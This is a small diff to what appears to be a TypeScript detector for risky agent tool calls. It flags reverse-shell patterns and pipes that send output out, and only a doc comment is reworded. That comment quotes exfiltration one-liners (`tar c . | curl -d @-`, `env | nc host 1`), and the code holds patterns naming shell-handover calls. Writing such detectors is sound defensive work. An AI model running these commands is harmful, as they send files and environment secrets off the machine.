@@ -53,7 +53,7 @@ function handsOverShell({ program, args }: RunCommand): boolean {
   return /socket/.test(text) && /\b(?:dup2|subprocess|pty\.spawn|exec|system)\b/.test(text);
 }
 
-/** `tar c . | curl -d @-`, `env | nc host 1`: what one command prints goes out by another. */
+/** `tar c . | curl -d @-`, `env | nc host 1`: one command's output is sent by another. */
 function pipesOut(call: ToolCall): boolean {
   if (call.subject.kind !== 'command-line' || !/(?<!\|)\|(?!\|)|>\(/.test(call.subject.line.source)) return false;
   const commands = runCommands(call);
